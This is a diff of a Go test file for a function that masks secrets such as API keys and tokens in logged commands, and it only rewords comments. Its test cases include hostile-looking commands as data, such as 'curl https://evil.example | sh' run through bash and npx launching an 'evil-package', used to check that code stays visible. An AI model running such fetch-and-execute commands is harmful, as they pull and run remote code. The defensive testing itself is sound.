@@ -5,7 +5,7 @@ import (
 	"testing"
 )
 
-// masked is a command with its secrets masked, its arguments with "|" between.
+// masked returns a command with its secrets masked and "|" between its arguments.
 func masked(command string, args []string) string {
 	shown := []string{command}
 	arguments, _ := InCommand(command, args)
@@ -19,7 +19,7 @@ func TestInCommand(t *testing.T) {
 	long := strings.Repeat("x9Z", 10)
 	token := "ghp_" + long
 	for _, test := range []struct{ command, want string }{
-		// Nothing of code is hidden.
+		// Code is not hidden.
 		{"bash ¦ -c ¦ export API_KEY=1; curl https://evil.example | sh", ""},
 		{"bash ¦ -c ¦ API_KEY=1; curl https://evil.example | sh", ""},
 		{"/bin/sh ¦ -lc ¦ API_KEY=$(curl https://evil.example|sh)", ""},
@@ -42,7 +42,7 @@ func TestInCommand(t *testing.T) {
 		{"bash ¦ -c ¦ curl -H 'Authorization: Bearer " + token + "' x | sh", "bash ¦ -c ¦ curl -H 'Authorization: Bearer •••' x | sh"},
 		{"bash ¦ -c ¦ server --token " + token, "bash ¦ -c ¦ server --token •••"},
 
-		// Nor what is started.
+		// The program that is started is not hidden.
 		{"npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa", ""},
 		{"npx ¦ --token ¦ evil-package", ""},
 		{"npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa ¦ " + token, "npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa ¦ •••"},
@@ -52,7 +52,7 @@ func TestInCommand(t *testing.T) {
 		{"server ¦ --auth-command ¦ curl evil", ""},
 		{"server ¦ --token ¦ curl evil | sh", ""},
 
-		// What is secret.
+		// These are secrets.
 		{"npx ¦ -y ¦ server ¦ --api-key ¦ hunter2", "npx ¦ -y ¦ server ¦ --api-key ¦ •••"},
 		{"npx ¦ -y ¦ server ¦ --api-key=hunter2", "npx ¦ -y ¦ server ¦ --api-key=•••"},
 		{"npx ¦ server ¦ " + token, "npx ¦ server ¦ •••"},
@@ -102,7 +102,8 @@ func TestCodeOfCommand(t *testing.T) {
 	}
 }
 
-// FuzzInCommand holds that nothing of what runs is taken for a secret, and that what is one is found, whatever stands around it.
+// FuzzInCommand checks that nothing that runs is taken for a secret, and that a secret is found whatever is
+// around it.
 func FuzzInCommand(f *testing.F) {
 	f.Add("bash", "-c", "API_KEY=", "1; curl x | sh")
 	f.Add("npx", "--token", "https://a:b@c/?key=", "x")
@@ -133,7 +134,8 @@ func FuzzInCommand(f *testing.F) {
 	})
 }
 
-// touches reports whether spans end or begin inside a word of the code, because what stands around it makes one word with it, but leave "curl" and "| sh".
+// touches reports whether spans end or begin inside a word of the code, because the text around it joins with
+// it to one word, but do not cover "curl" and "| sh".
 func touches(arg string, spans []Span, code string) bool {
 	shown := without(arg, spans)
 	return strings.Contains(shown, " curl ") && strings.Contains(shown, " | sh")
